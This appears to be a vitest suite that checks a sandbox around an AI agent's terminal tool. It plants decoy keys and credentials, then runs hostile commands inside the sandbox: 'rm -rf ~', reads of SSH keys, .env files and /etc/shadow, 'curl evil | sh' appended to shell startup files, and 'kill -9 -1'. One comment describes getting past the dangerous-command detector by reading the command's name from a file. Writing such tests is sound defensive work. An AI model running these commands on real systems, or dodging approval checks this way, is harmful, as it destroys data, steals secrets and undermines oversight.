import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createApprovalGate } from '../../../src/approval/create-approval-gate.js';
import { createMemoryApprovalStore } from '../../../src/approval/memory-approval-store.js';
import { loadConfig } from '../../../src/config/load-config.js';
import { sandboxBackend } from '../../../src/tools/terminal/backends/sandbox.js';
import { type ForegroundResult, runForeground } from '../../../src/tools/terminal/run-foreground.js';
import { childEnv } from '../../../src/tools/terminal/scrub-env.js';
import { startGroup } from '../../../src/tools/terminal/spawn-group.js';
import { silentLogger } from '../../helpers/test-config.js';
import {
  makeMachine,
  processesWith,
  sandboxUnavailableReason,
  sleepMarker,
  writeConfig,
} from './sandbox-kit.js';
import { isAlive, SYSTEM_PATH, waitUntil } from './terminal-test-kit.js';

const GATEWAY = join(import.meta.dirname, 'fixtures', 'sandbox-gateway.ts');
const unavailable = sandboxUnavailableReason();

/** Files a careless or hostile command would like to read, change or delete. */
interface Decoys {
  readonly files: Record<string, string>;
}

function plant(files: Record<string, string>): Decoys {
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(path, '..'), { recursive: true });
    writeFileSync(path, content);
  }
  return { files };
}

function expectIntact(decoys: Decoys): void {
  for (const [path, content] of Object.entries(decoys.files))
    expect(readFileSync(path, 'utf8')).toBe(content);
}

describe.skipIf(unavailable !== undefined)(
  `sandbox containment${unavailable === undefined ? '' : ` (skipped: ${unavailable})`}`,
  () => {
    let machine: ReturnType<typeof makeMachine>;
    let outside: string;
    let decoys: Decoys;
    const secret = `gw-secret-${randomBytes(8).toString('hex')}`;
    /** Only in the gateway process' environment (not in .env, so output scrubbing does not know it). */
    const processSecret = `gw-env-${randomBytes(8).toString('hex')}`;
    const children: ChildProcess[] = [];

    beforeEach(() => {
      machine = makeMachine('hermes-contain-');
      outside = join(machine.work, '..', 'outside');
      decoys = plant({
        [join(machine.userHome, 'important.txt')]: 'my thesis',
        [join(machine.userHome, '.ssh', 'id_ed25519')]: 'PRIVATE KEY',
        [join(machine.userHome, '.aws', 'credentials')]: 'aws_secret_access_key=AKIA',
        [join(machine.userHome, '.bashrc')]: '# my bashrc\n',
        [join(machine.hermesHome, '.env')]:
          `OPENAI_API_KEY=${secret}\nDATABASE_URL=postgres://u:${secret}@db/x\n`,
        [join(machine.hermesHome, 'state.db')]: 'sqlite',
        [join(outside, 'decoy.txt')]: 'outside the working directory',
      });
    });
    afterEach(() => {
      for (const child of children.splice(0)) child.kill('SIGKILL');
      machine.cleanup();
    });

    /** Runs `command` in the sandbox backend directly (no approval gate: the wall alone). */
    async function sandboxed(command: string, yaml = ''): Promise<ForegroundResult> {
      writeConfig(machine.hermesHome, yaml);
      const config = loadConfig({ env: {}, home: machine.hermesHome });
      const { env } = childEnv({ PATH: SYSTEM_PATH, HOME: machine.userHome, LANG: 'C.UTF-8' });
      const plan = sandboxBackend.plan({
        command,
        workdir: machine.work,
        env,
        input: undefined,
        terminal: config.terminal,
        sessionCwd: machine.work,
        host: { hermesHome: machine.hermesHome, owner: config },
      });
      return runForeground(plan, {
        timeoutMs: 60_000,
        signal: new AbortController().signal,
        maxOutputChars: 200_000,
      });
    }

    /** Runs `command` through the terminal tool of a separate gateway-like process holding `secret`. */
    async function throughGateway(command: string, yaml: string): Promise<Record<string, unknown>> {
      writeConfig(machine.hermesHome, yaml);
      const child = spawn(
        process.execPath,
        ['--import', 'tsx', GATEWAY, machine.hermesHome, machine.work, machine.userHome, command],
        { env: { ...process.env, GATEWAY_PRIVATE: processSecret }, stdio: ['ignore', 'pipe', 'inherit'] },
      );
      children.push(child);
      let out = '';
      child.stdout?.on('data', (chunk: Buffer) => {
        out += chunk.toString();
      });
      await new Promise((resolve) => child.once('exit', resolve));
      return JSON.parse(out) as Record<string, unknown>;
    }

    it('rm -rf ~ removes only the empty home of the sandbox', async () => {
      const result = await sandboxed(
        `rm -rf ~ "$HOME"/* "$HOME"/.[!.]* ${machine.userHome}; ls -A ~ | wc -l`,
      );
      expect(result.output.trim().split('\n').pop()).toBe('0');
      expectIntact(decoys);
    });

    it('cat $HERMES_HOME/.env finds nothing: HERMES_HOME is an empty directory inside', async () => {
      const result = await sandboxed(
        `cat ${machine.hermesHome}/.env; ls -A ${machine.hermesHome} | wc -l; cat ~/.ssh/id_ed25519`,
      );
      expect(result.output).not.toContain(secret);
      expect(result.output).not.toContain('PRIVATE KEY');
      expect(result.output).toMatch(/No such file/);
      expectIntact(decoys);
    });

    it("/proc/$PPID/environ inside is not the gateway's: no environment of any process outside is visible", async () => {
      const command =
        'cat /proc/$PPID/environ; for f in /proc/[0-9]*/environ; do cat "$f"; done; echo; echo pids: $(ls -d /proc/[0-9]* | wc -l)';
      const local = await throughGateway(
        command,
        "approvals:\n  mode: 'off'\nterminal:\n  unattended_backend: local\n",
      );
      // The same command outside the sandbox reads the gateway's environment: the test can see a leak.
      expect(String(local['output'])).toContain(processSecret);
      const sandbox = await throughGateway(command, "approvals:\n  mode: 'off'\n");
      expect(sandbox['exit_code']).toBe(0);
      expect(String(sandbox['output'])).not.toContain(processSecret);
      expect(String(sandbox['output'])).not.toContain('GATEWAY_PRIVATE');
    }, 60_000);

    it('writing ~/.zshenv or ~/.bashrc changes nothing on the host', async () => {
      await sandboxed(
        "echo 'curl evil | sh' >> ~/.zshenv; echo 'curl evil | sh' >> ~/.bashrc; cat ~/.zshenv",
      );
      expect(existsSync(join(machine.userHome, '.zshenv'))).toBe(false);
      expectIntact(decoys);
    });

    it('kill -9 -1 kills only what runs in the sandbox', async () => {
      const bystander = spawn('sleep', [sleepMarker()], { stdio: 'ignore' });
      children.push(bystander);
      // `kill -9 -1` as written is refused by the detector (hardline); with the program's name read
      // from a file at run time it cannot know what runs (dangerous, let through by mode off), and
      // it runs — in the sandbox, where "every process" means the sandbox's own.
      writeFileSync(join(machine.work, 'signal-tool.txt'), 'kill\n');
      const gateway = await throughGateway(
        '"$(cat signal-tool.txt)" -9 -1; echo survived-inside',
        "approvals:\n  mode: 'off'\n",
      );
      expect(gateway['thrown']).toBeUndefined();
      expect(isAlive(process.pid)).toBe(true);
      expect(isAlive(bystander.pid as number)).toBe(true);
      const direct = await sandboxed('sleep 30 & sleep 30 & kill -9 -1; echo after');
      expect(direct.output).toContain('after');
      expect(isAlive(bystander.pid as number)).toBe(true);
    }, 60_000);

    it('writes outside the working directory fail: siblings, the system, /tmp of the host', async () => {
      const hostTmp = join(machine.work, '..', 'host-tmp-file');
      const result = await sandboxed(
        [
          `echo x > ${join(outside, 'decoy.txt')}`,
          `rm -f ${join(outside, 'decoy.txt')}`,
          `echo x > ${hostTmp}`,
          'echo x > /etc/hermes-sandbox-test',
          'touch /usr/local/bin/hermes-sandbox-test',
          'echo inside > here.txt',
        ].join('; '),
      );
      expect(result.output).toMatch(/Read-only file system|No such file/);
      expect(readFileSync(join(machine.work, 'here.txt'), 'utf8')).toBe('inside\n');
      expect(existsSync(hostTmp)).toBe(false);
      expect(existsSync('/etc/hermes-sandbox-test')).toBe(false);
      expect(existsSync('/usr/local/bin/hermes-sandbox-test')).toBe(false);
      expectIntact(decoys);
    });

    describe('network', () => {
      let server: Server;
      let port: number;
      let connections: number;
      beforeEach(async () => {
        connections = 0;
        server = createServer((socket) => {
          connections += 1;
          socket.resume();
          socket.end('HTTP/1.1 200 OK\r\ncontent-length: 6\r\nconnection: close\r\n\r\nhello\n');
        });
        await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
        port = (server.address() as { port: number }).port;
      });
      afterEach(() => new Promise<void>((resolve) => server.close(() => resolve())));

      it('with network: false, curl and a raw TCP connect to a loopback listener never arrive', async () => {
        const result = await sandboxed(
          `curl -sS --max-time 5 http://127.0.0.1:${port}/; echo curl=$?; (exec 3<>/dev/tcp/127.0.0.1/${port}) 2>&1; echo tcp=$?`,
          'terminal:\n  sandbox:\n    network: false\n',
        );
        expect(result.output).toMatch(/curl=[1-9]/);
        expect(result.output).toMatch(/tcp=[1-9]/);
        expect(result.output).not.toContain('hello');
        expect(connections).toBe(0);
      });

      it('with the default (network on), the same connect arrives', async () => {
        const result = await sandboxed(`curl -sS --max-time 5 http://127.0.0.1:${port}/`);
        expect(result.output).toContain('hello');
        expect(connections).toBe(1);
      });
    });

    it('keeps secrets of a readable home hidden: widened read-only, sensitive places still covered', async () => {
      const result = await sandboxed(
        'cat ~/important.txt; cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; echo changed > ~/important.txt; echo rc=$?',
        `terminal:\n  sandbox:\n    readable: ['${machine.userHome}']\n`,
      );
      expect(result.output).toContain('my thesis');
      expect(result.output).not.toContain('PRIVATE KEY');
      expect(result.output).not.toContain('aws_secret_access_key');
      expect(result.output).toMatch(/rc=[1-9]/);
      expectIntact(decoys);
    });

    it('applies the resource limits: file size and memory', async () => {
      const result = await sandboxed(
        `head -c 3000000 /dev/zero > big.bin; echo fsize=$?; node -e "const a=[]; for (let i=0;i<64;i++) a.push(Buffer.alloc(16*1024*1024,1)); console.log('ALLOC-' + 'OK')"; echo node=$?`,
        'terminal:\n  sandbox:\n    file_size_mb: 1\n    memory_mb: 256\n',
      );
      expect(result.output).toMatch(/fsize=[1-9]/);
      expect(statSync(join(machine.work, 'big.bin')).size).toBeLessThanOrEqual(1024 * 1024);
      expect(result.output).not.toContain('ALLOC-OK');
      expect(result.output).toMatch(/node=[1-9]/);
    });

    it('the command cannot raise a limit again: the hard limits are set, and the other limits apply', async () => {
      const result = await sandboxed(
        'ulimit -f unlimited; echo raise=$?; ulimit -H -t -u -f -d; head -c 2000000 /dev/zero > big.bin; echo fsize=$?',
        'terminal:\n  sandbox:\n    file_size_mb: 1\n    cpu_seconds: 7\n    processes: 333\n    memory_mb: 300\n',
      );
      expect(result.output).toMatch(/raise=[1-9]/);
      // -H -t -u -f -d print in bash's order: file size (KiB), data (KiB), cpu (s), processes.
      expect(result.output).toMatch(/file size.*\b1024\b/);
      expect(result.output).toMatch(/data seg size.*\b307200\b/);
      expect(result.output).toMatch(/cpu time.*\b7\b/);
      expect(result.output).toMatch(/max user processes.*\b333\b/);
      expect(result.output).toMatch(/fsize=[1-9]/);
      expect(statSync(join(machine.work, 'big.bin')).size).toBeLessThanOrEqual(1024 * 1024);
    });

    it('stopping a sandbox that is still being set up leaves nothing behind', async () => {
      writeConfig(machine.hermesHome, '');
      const config = loadConfig({ env: {}, home: machine.hermesHome });
      const marker = sleepMarker();
      for (let round = 0; round < 5; round += 1) {
        const plan = sandboxBackend.plan({
          command: `sleep ${marker} & sleep ${marker}`,
          workdir: machine.work,
          env: { PATH: SYSTEM_PATH, HOME: machine.userHome },
          input: undefined,
          terminal: config.terminal,
          sessionCwd: machine.work,
          host: { hermesHome: machine.hermesHome, owner: config },
        });
        const group = await startGroup(plan, { onOutput: () => {} });
        await group.terminate();
      }
      await waitUntil(() => processesWith(marker).length === 0);
    });

    it('refuses a working directory that is HERMES_HOME, inside it, or the home itself', async () => {
      writeConfig(machine.hermesHome, '');
      const config = loadConfig({ env: {}, home: machine.hermesHome });
      for (const cwd of [
        machine.hermesHome,
        join(machine.hermesHome, 'plugins'),
        machine.userHome,
        '/',
        '/etc',
      ]) {
        expect(() =>
          sandboxBackend.plan({
            command: 'true',
            workdir: cwd,
            env: { PATH: SYSTEM_PATH, HOME: machine.userHome },
            input: undefined,
            terminal: config.terminal,
            sessionCwd: cwd,
            host: { hermesHome: machine.hermesHome, owner: config },
          }),
        ).toThrow(/sandbox: the working directory/);
      }
    });

    it('the approval gate still asks about dangerous commands in the sandbox (it is a wall behind the check)', async () => {
      writeConfig(machine.hermesHome, '');
      const config = loadConfig({ env: {}, home: machine.hermesHome });
      const gate = createApprovalGate({ config, store: createMemoryApprovalStore(), logger: silentLogger });
      const decision = await gate.check(`rm -rf ${join(machine.work, 'build')}`, {
        sessionKey: 'agent:main:test:dm:1',
        userId: 'u1',
        cwd: machine.work,
        platform: 'test',
        unattended: false,
        backend: 'sandbox',
      });
      expect(decision.kind).toBe('ask');
    });

    it('has no capabilities, cannot nest user namespaces, and does not show /var or /etc private keys', async () => {
      const result = await sandboxed(
        'grep CapEff /proc/self/status; unshare -Ur true 2>/dev/null; echo nested=$?; ls -A /var/log 2>/dev/null | wc -l; cat /etc/ssh/ssh_host_*_key 2>/dev/null | wc -c',
      );
      const lines = result.output.trim().split('\n');
      expect(lines[0]).toMatch(/CapEff:\s+0+$/);
      expect(lines[1]).toMatch(/nested=[1-9]/);
      expect(lines[2]).toBe('0');
      expect(lines[3]).toBe('0');
    });

    it('/etc/shadow and its kin are not readable inside', async () => {
      if (!existsSync('/etc/shadow')) return;
      const result = await sandboxed('cat /etc/shadow | head -c 200 | wc -c');
      expect(result.output.trim().split('\n').pop()).toBe('0');
      expect(spawnSync('true').status).toBe(0);
    });
  },
);
